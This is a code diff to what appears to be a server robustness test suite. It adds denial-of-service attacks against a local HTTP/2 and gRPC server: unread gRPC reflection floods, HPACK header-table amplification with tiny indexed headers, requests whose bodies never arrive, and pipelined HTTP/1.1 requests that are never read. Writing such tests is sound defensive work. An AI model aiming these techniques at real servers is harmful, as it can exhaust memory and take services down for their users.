@@ -1,11 +1,12 @@
 """Attempts to make the server hold more than it should."""
 import gzip
 import os
+import socket
 import threading
 import time
 
 from http2_frames import (DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RESET, WINDOW_UPDATE, Client,
-                          call, field, frame, literal, number_field, put, request_headers, setting)
+                          call, field, frame, integer, literal, number_field, put, request_headers, setting)
 
 from attacks.registry import (KEEP_ALIVE, MIB, PUT, RANGE, REQUEST_PATIENCE_S, WATCH, attack, expect, number32)
 
@@ -167,6 +168,60 @@ def watchers_without_end(port, full):
 def progress_requests_not_read(port, full):
     client, _ = pour_messages(port, WATCH, lambda i: field(3, b""), 2_000_000 if full else 20_000, read=False)
     client.close()
+
+
+@attack(32)
+def reflection_not_read(port, full):
+    """Small questions with large answers, on one stream."""
+    question = field(4, b"etcdserverpb.KV")
+    client, _ = pour_messages(port, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", lambda i: question,
+                              40_000 if full else 5000, read=False)
+    time.sleep(2)
+    client.close()
+
+
+def large_headers(indexed):
+    """Header blocks of 60 KB, all but the first of a few bytes: they refer to what the table keeps."""
+    common = b"".join(literal(name, value, 0x40) for name, value in indexed) + literal(b"x", b"x" * 3500, 0x40)
+    entries = len(indexed) + 1
+    again = b"".join(integer(62 + i, 7, 0x80) for i in range(entries - 1, 0, -1)) + integer(62, 7, 0x80) * 16
+    return common, again
+
+
+def pour_requests(port, indexed, count):
+    """Requests with such headers whose bodies never come, and whose answers are not read."""
+    common, again = large_headers(indexed)
+    client = Client(port, settings=WINDOW_SHUT, timeout=2)
+    client.send(frame(HEADERS, END_HEADERS, 1, common))
+    for i in range(1, count, 100):
+        if not client.send(b"".join(frame(HEADERS, END_HEADERS, 2 * j + 1, again) for j in range(i, i + 100))):
+            break
+    time.sleep(2)
+    client.close()
+
+
+@attack(400)
+def headers_of_plain_requests(port, full):
+    pour_requests(port, ((b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/health"), (b":authority", b"a")),
+                  20_000 if full else 8000)
+
+
+@attack(400)
+def headers_of_calls(port, full):
+    pour_requests(port, ((b":method", b"POST"), (b":scheme", b"http"), (b":path", PUT.encode()), (b":authority", b"a"),
+                         (b"content-type", b"application/grpc"), (b"te", b"trailers")),
+                  20_000 if full else 8000)
+
+
+@attack(32)
+def http1_not_read(port, full):
+    """Requests that are sent ahead, of pages that nobody takes."""
+    with socket.create_connection(("127.0.0.1", port), timeout=2) as client:
+        try:
+            client.sendall(b"GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n" * (20_000 if full else 2000))
+        except socket.timeout:
+            pass  # it does not read on, and need not
+        time.sleep(5 if full else 2)
 
 
 @attack(64)
